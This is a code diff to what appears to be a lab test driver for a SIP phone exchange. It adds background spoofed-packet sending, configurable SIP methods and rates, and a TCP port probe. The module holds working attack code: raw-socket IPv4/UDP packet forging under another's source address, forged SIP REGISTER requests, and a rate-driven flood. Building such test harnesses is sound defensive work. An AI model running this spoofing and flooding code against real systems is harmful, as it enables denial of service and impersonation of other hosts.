@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import itertools
 from dataclasses import dataclass
 
 from lab.driver.agents import Pbx
@@ -58,7 +59,8 @@ for serial in range(1, most + 1):
 
 _FORGE = r"""
 import socket, struct, sys, time
-source, target, port, count, text = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
+source, target, text = sys.argv[1], sys.argv[2], sys.argv[6]
+port, count, interval = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
 channel = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 for serial in range(count):
     payload = text.replace("SERIAL", str(serial)).encode()
@@ -66,7 +68,7 @@ for serial in range(count):
     head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), serial + 1, 0, 64, 17, 0,
                        socket.inet_aton(source), socket.inet_aton(target))
     channel.sendto(head + datagram, (target, 0))
-    time.sleep(0.02)
+    time.sleep(interval)
 """
 
 _FLOOD = r"""
@@ -84,6 +86,19 @@ while time.monotonic() < end:
     time.sleep(0.01)
 print(sent)
 """
+
+
+_KNOCK = """
+import socket, sys
+try:
+    socket.create_connection((sys.argv[1], int(sys.argv[2])), float(sys.argv[3])).close()
+    print("open")
+except ConnectionRefusedError:
+    print("refused")
+except TimeoutError:
+    print("silence")
+"""
+_serial = itertools.count(1)
 
 
 @dataclass(frozen=True)
@@ -119,24 +134,36 @@ def offend(machine: Machine, pbx: Pbx, kind: str, *, interval: float = 0.1, most
     return Attack(tuple(None if word == "silence" else int(word) for word in words))
 
 
-def forge(machine: Machine, pbx: Pbx, source: str, *, count: int = 30) -> None:
-    """Send requests for accounts that do not exist, under another's address."""
+def forge(
+    machine: Machine, pbx: Pbx, source: str, *, method: str = "REGISTER", count: int = 30, rate: float = 50
+) -> Process:
+    """Send requests under another's address, in the background.
+
+    Args:
+        machine: who really sends.
+        pbx: whom it attacks.
+        source: address in the packets and in the requests.
+        method: REGISTER asks for an account that does not exist.
+        count: how many requests.
+        rate: requests a second.
+    """
     text = "\r\n".join(
         (
-            f"REGISTER sip:{pbx.target} SIP/2.0",
-            f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-forged-{source}-SERIAL;rport",
+            f"{method} sip:{pbx.target} SIP/2.0",
+            f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-forged-{source}-{next(_serial)}-SERIAL;rport",
             "Max-Forwards: 70",
             "From: <sip:nobody@forged.example>;tag=forgedSERIAL",
             "To: <sip:nobody@forged.example>",
-            f"Call-ID: forged-{source}-SERIAL",
-            "CSeq: 1 REGISTER",
+            f"Call-ID: forged-{source}-{next(_serial)}-SERIAL",
+            f"CSeq: 1 {method}",
             f"Contact: <sip:nobody@{source}>",
             "Content-Length: 0",
             "",
             "",
         )
     )
-    machine.run(["python3", "-c", _FORGE, source, pbx.address, str(pbx.sip_port), str(count), text])
+    arguments = [source, pbx.address, str(pbx.sip_port), str(count), str(1 / rate), text]
+    return machine.start(["python3", "-c", _FORGE, *arguments], "forge")
 
 
 def flood(machine: Machine, pbx: Pbx, *, rate: int, seconds: float) -> Process:
@@ -144,3 +171,15 @@ def flood(machine: Machine, pbx: Pbx, *, rate: int, seconds: float) -> Process:
     return machine.start(
         ["python3", "-c", _FLOOD, pbx.address, str(pbx.sip_port), str(rate), str(seconds)], "flood"
     )
+
+
+def knock(machine: Machine, address: str, port: int, seconds: float = 1.0) -> str:
+    """Try to connect over TCP, IPv4 or IPv6.
+
+    Returns:
+        ``open`` or ``refused``, which both are answers, or ``silence``.
+
+    Raises:
+        DriverError: the address cannot be reached at all.
+    """
+    return machine.run(["python3", "-c", _KNOCK, address, str(port), str(seconds)]).strip()
